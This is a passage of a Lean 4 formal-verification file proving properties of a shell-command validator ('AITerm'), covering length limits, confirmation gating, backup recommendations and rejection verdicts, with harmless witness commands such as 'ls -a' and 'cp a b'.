agree with the run where require_confirmation is true. -/
theorem C5_confirmation_gating (cmd : String) (bd : Option Bool) (ml : Option Nat) :
    (validate_command ⟨some false, bd, ml⟩ cmd).needs_confirmation.getD false = false
    ∧ (validate_command ⟨some false, bd, ml⟩ cmd).valid
      = (validate_command ⟨some true, bd, ml⟩ cmd).valid
    ∧ (validate_command ⟨some false, bd, ml⟩ cmd).risk_level
      = (validate_command ⟨some true, bd, ml⟩ cmd).risk_level := by
  simp only [validate_command]
  by_cases h1 : (pyStrip cmd).data.isEmpty = true
  · rw [if_pos h1, if_pos h1]
    exact ⟨rfl, rfl, rfl⟩
  · rw [if_neg h1, if_neg h1]
    by_cases h2 : ml.getD 2000 < (pyStrip cmd).length
    · rw [if_pos h2, if_pos h2]
      exact ⟨rfl, rfl, rfl⟩
    · rw [if_neg h2, if_neg h2]
      rcases htok : shlexSplit (pyStrip cmd) with e | parts
      · simp only [htok]
        simp
      · cases parts with
        | nil =>
            simp only [htok]
            simp
        | cons first restParts =>
          simp only [htok]
          by_cases h3 : hasCriticalPattern (pyStrip cmd) = true
          · rw [if_pos h3, if_pos h3]
            exact ⟨rfl, rfl, rfl⟩
          · rw [if_neg h3, if_neg h3]
            by_cases h4 : (bd.getD true
                && DANGEROUS_COMMANDS.contains (lowerStr first)) = true
            · rw [if_pos h4, if_pos h4]
              exact ⟨rfl, rfl, rfl⟩
            · rw [if_neg h4, if_neg h4]
              exact ⟨by simp, rfl, rfl⟩

/-- Each confirmation trigger contributes a non-empty reason, so the
joined confirmation_reason is non-empty whenever a trigger fired. -/
lemma confirmationReasons_join_ne (base : String) (wf : Bool) (ce : ConfigEditTarget)
    (h : (CONFIRMATION_COMMANDS.contains base || wf
        || ce.is_config || ce.is_critical) = true) :
    pyJoin "; " (confirmationReasons base wf ce) ≠ "" := by
  unfold confirmationReasons
  by_cases hb : CONFIRMATION_COMMANDS.contains base = true
  · rw [if_pos hb, List.singleton_append]
    exact pyJoin_cons_ne_empty _ _ _
      (append_data_ne_nil (append_data_ne_nil (append_data_ne_nil (by decide))))
  · rw [if_neg hb, List.nil_append]
    by_cases hw : wf = true
    · rw [if_pos hw, List.singleton_append]
      exact pyJoin_cons_ne_empty _ _ _ (by decide)
    · rw [if_neg hw, List.nil_append]
      by_cases hcfg : ce.is_config = true
      · rw [if_pos hcfg, List.singleton_append]
        exact pyJoin_cons_ne_empty _ _ _ (append_data_ne_nil (by decide))
      · rw [if_neg hcfg, List.nil_append]
        by_cases hk : ce.is_critical = true
        · rw [if_pos hk]
          exact pyJoin_cons_ne_empty _ _ _ (by decide)
        · exfalso
          rw [Bool.not_eq_true] at hb hw hcfg hk
          rw [hb, hw, hcfg, hk] at h
          simp at h

/-- C6: with max_command_length set to N a trimmed command of exactly N
characters is never rejected for length, a trimmed command of N+1
characters is rejected as "Command too long", an absent
max_command_length field behaves exactly like the internal fallback
2000, and the shipped default configuration carries the lower value
1000. -/
theorem C6_length_boundary (cfg : SecurityConfig) (N : Nat) (cmd : String)
    (hN : cfg.max_command_length = some N) :
    ((pyStrip cmd).length = N →
      (validate_command cfg cmd).reason ≠ "Command too long")
    ∧ ((pyStrip cmd).length = N + 1 →
      (validate_command cfg cmd).valid = false
      ∧ (validate_command cfg cmd).reason = "Command too long")
    ∧ (∀ (cmd2 : String) (rc bd : Option Bool),
        validate_command ⟨rc, bd, none⟩ cmd2
          = validate_command ⟨rc, bd, some 2000⟩ cmd2)
    ∧ defaultSecurityConfig.max_command_length = some 1000 ∧ 1000 < 2000 := by
  refine ⟨?_, ?_, ?_, rfl, by decide⟩
  · intro hlen
    have h2 : ¬ (cfg.max_command_length.getD 2000 < (pyStrip cmd).length) := by
      rw [hN, hlen]
      simp
    simp only [validate_command]
    by_cases h1 : (pyStrip cmd).data.isEmpty = true
    · rw [if_pos h1]
      decide
    · rw [if_neg h1, if_neg h2]
      rcases htok : shlexSplit (pyStrip cmd) with e | parts
      · simp only [htok]
        exact invalid_syntax_ne e
      · cases parts with
        | nil =>
            simp only [htok]
            decide
        | cons first restParts =>
          simp only [htok]
          by_cases h3 : hasCriticalPattern (pyStrip cmd) = true
          · rw [if_pos h3]
            decide
          · rw [if_neg h3]
            by_cases h4 : (cfg.block_dangerous_commands.getD true
                && DANGEROUS_COMMANDS.contains (lowerStr first)) = true
            · rw [if_pos h4]
              exact dangerous_reason_ne (lowerStr first)
            · rw [if_neg h4]
              exact (by decide : ("Command validated" : String) ≠ "Command too long")
  · intro hlen
    have h1 : ¬ ((pyStrip cmd).data.isEmpty = true) := by
      rw [List.isEmpty_iff]
      intro hnil
      rw [show (pyStrip cmd).length = (pyStrip cmd).data.length from rfl, hnil] at hlen
      simp at hlen
    have h2 : cfg.max_command_length.getD 2000 < (pyStrip cmd).length := by
      rw [hN, hlen]
      simp
    simp only [validate_command]
    rw [if_neg h1, if_pos h2]
    exact ⟨rfl, rfl⟩
  · intro cmd2 rc bd
    rfl

/-- C6 witness: with a limit of 5, the five-character "ls -a" is not
length-rejected and the six-character "ls -a1" is rejected. -/
theorem C6_witness :
    (validate_command ⟨some true, some true, some 5⟩ "ls -a").reason ≠ "Command too long"
    ∧ (validate_command ⟨some true, some true, some 5⟩ "ls -a1").valid = false := by
  constructor
  · exact (C6_length_boundary ⟨some true, some true, some 5⟩ 5 "ls -a" rfl).1 (by decide)
  · exact ((C6_length_boundary ⟨some true, some true, some 5⟩ 5 "ls -a1" rfl).2.1
      (by decide)).1

/-- C7: every verdict with valid=true carries the classifier record and
backup_recommended is exactly is_config OR is_critical of it. -/
theorem C7_backup_iff (cfg : SecurityConfig) (cmd : String)
    (hvalid : (validate_command cfg cmd).valid = true) :
    ∃ ce, (validate_command cfg cmd).config_editing = some ce
      ∧ (validate_command cfg cmd).backup_recommended
        = some (ce.is_config || ce.is_critical) := by
  simp only [validate_command] at hvalid ⊢
  by_cases h1 : (pyStrip cmd).data.isEmpty = true
  · rw [if_pos h1] at hvalid
    exact Bool.noConfusion hvalid
  · rw [if_neg h1] at hvalid ⊢
    by_cases h2 : cfg.max_command_length.getD 2000 < (pyStrip cmd).length
    · rw [if_pos h2] at hvalid
      exact Bool.noConfusion hvalid
    · rw [if_neg h2] at hvalid ⊢
      rcases htok : shlexSplit (pyStrip cmd) with e | parts
      · simp only [htok] at hvalid
        exact Bool.noConfusion hvalid
      · cases parts with
        | nil =>
            simp only [htok] at hvalid
            exact Bool.noConfusion hvalid
        | cons first restParts =>
          simp only [htok] at hvalid ⊢
          by_cases h3 : hasCriticalPattern (pyStrip cmd) = true
          · rw [if_pos h3] at hvalid
            exact Bool.noConfusion hvalid
          · rw [if_neg h3] at hvalid ⊢
            by_cases h4 : (cfg.block_dangerous_commands.getD true
                && DANGEROUS_COMMANDS.contains (lowerStr first)) = true
            · rw [if_pos h4] at hvalid
              exact Bool.noConfusion hvalid
            · rw [if_neg h4]
              exact ⟨_, rfl, rfl⟩

/-- C7 witness: editing ~/.bashrc with nano yields a valid verdict whose
backup recommendation equals the classifier flags. -/
theorem C7_witness :
    ∃ ce, (validate_command defaultSecurityConfig "nano ~/.bashrc").config_editing
        = some ce
      ∧ (validate_command defaultSecurityConfig "nano ~/.bashrc").backup_recommended
        = some (ce.is_config || ce.is_critical) :=
  C7_backup_iff defaultSecurityConfig "nano ~/.bashrc" (by rfl)

/-- C9: a command rejected as empty, too long, or untokenizable gets a
verdict holding only the valid and reason entries; every other field is
absent. -/
theorem C9_bare_rejection (cfg : SecurityConfig) (cmd : String)
    (h : (pyStrip cmd).data.isEmpty = true
      ∨ cfg.max_command_length.getD 2000 < (pyStrip cmd).length
      ∨ (∃ e, shlexSplit (pyStrip cmd) = Except.error e)
      ∨ shlexSplit (pyStrip cmd) = Except.ok []) :
    (validate_command cfg cmd).valid = false
    ∧ (validate_command cfg cmd).risk_level = none
    ∧ (validate_command cfg cmd).needs_confirmation = none
    ∧ (validate_command cfg cmd).confirmation_reason = none
    ∧ (validate_command cfg cmd).base_command = none
    ∧ (validate_command cfg cmd).config_editing = none
    ∧ (validate_command cfg cmd).warning_pattern = none
    ∧ (validate_command cfg cmd).backup_recommended = none := by
  simp only [validate_command]
  by_cases h1 : (pyStrip cmd).data.isEmpty = true
  · rw [if_pos h1]
    exact ⟨rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl⟩
  · rw [if_neg h1]
    by_cases h2 : cfg.max_command_length.getD 2000 < (pyStrip cmd).length
    · rw [if_pos h2]
      exact ⟨rfl, rfl, rfl, rfl, rfl, rfl, rfl, rfl⟩
    · rw [if_neg h2]
      rcases htok : shlexSplit (pyStrip cmd) with e | parts
      · simp only [htok]
        simp
      · cases parts with
        | nil =>
            simp only [htok]
            simp
        | cons first restParts =>
            exfalso
            rcases h with h | h | ⟨e, he⟩ | he
            · exact h1 h
            · exact h2 h
            · rw [htok] at he
              exact Except.noConfusion he
            · rw [htok] at he
              exact absurd (Except.ok.inj he) (by simp)

/-- C9 witness: the empty command gets only the two-field verdict. -/
theorem C9_witness :
    (validate_command defaultSecurityConfig "").valid = false
    ∧ (validate_command defaultSecurityConfig "").risk_level = none
    ∧ (validate_command defaultSecurityConfig "").needs_confirmation = none
    ∧ (validate_command defaultSecurityConfig "").confirmation_reason = none
    ∧ (validate_command defaultSecurityConfig "").base_command = none
    ∧ (validate_command defaultSecurityConfig "").config_editing = none
    ∧ (validate_command defaultSecurityConfig "").warning_pattern = none
    ∧ (validate_command defaultSecurityConfig "").backup_recommended = none :=
  C9_bare_rejection defaultSecurityConfig "" (Or.inl (by rfl))

/-- C10: a valid verdict that asks for confirmation has reason
"Command validated" and a non-empty confirmation_reason. -/
theorem C10_confirmation_reason_nonempty (cfg : SecurityConfig) (cmd : String)
    (hv : (validate_command cfg cmd).valid = true)
    (hc : (validate_command cfg cmd).needs_confirmation = some true) :
    (validate_command cfg cmd).reason = "Command validated"
    ∧ ∃ s, (validate_command cfg cmd).confirmation_reason = some s ∧ s ≠ "" := by
  simp only [validate_command] at hv hc ⊢
  by_cases h1 : (pyStrip cmd).data.isEmpty = true
  · rw [if_pos h1] at hv
    exact Bool.noConfusion hv
  · rw [if_neg h1] at hv hc ⊢
    by_cases h2 : cfg.max_command_length.getD 2000 < (pyStrip cmd).length
    · rw [if_pos h2] at hv
      exact Bool.noConfusion hv
    · rw [if_neg h2] at hv hc ⊢
      rcases htok : shlexSplit (pyStrip cmd) with e | parts
      · simp only [htok] at hv
        exact Bool.noConfusion hv
      · cases parts with
        | nil =>
            simp only [htok] at hv
            exact Bool.noConfusion hv
        | cons first restParts =>
          simp only [htok] at hv hc ⊢
          by_cases h3 : hasCriticalPattern (pyStrip cmd) = true
          · rw [if_pos h3] at hv
            exact Bool.noConfusion hv
          · rw [if_neg h3] at hv hc ⊢
            by_cases h4 : (cfg.block_dangerous_commands.getD true
                && DANGEROUS_COMMANDS.contains (lowerStr first)) = true
            · rw [if_pos h4] at hv
              exact Bool.noConfusion hv
            · rw [if_neg h4] at hc ⊢
              have hc' : ((CONFIRMATION_COMMANDS.contains (lowerStr first)
                  || (WARNING_PATTERNS.find?
                      (fun wp => rsearch wp.2 (lowerStr (pyStrip cmd)))).isSome
                  || (is_config_editing_command (pyStrip cmd)
                      (first :: restParts)).is_config
                  || (is_config_editing_command (pyStrip cmd)
                      (first :: restParts)).is_critical)
                  && cfg.require_confirmation.getD true) = true :=
                Option.some.inj hc
              refine ⟨rfl, _, rfl, ?_⟩
              rw [Bool.and_eq_true] at hc'
              exact confirmationReasons_join_ne _ _ _ hc'.1

/-- C10 witness: "cp a b" is valid, needs confirmation, and carries a
non-empty confirmation reason. -/
theorem C10_witness :
    (validate_command defaultSecurityConfig "cp a b").reason = "Command validated"
    ∧ ∃ s, (validate_command defaultSecurityConfig "cp a b").confirmation_reason
        = some s ∧ s ≠ "" :=
  C10_confirmation_reason_nonempty defaultSecurityConfig "cp a b" (by rfl) (by rfl)

end AITerm
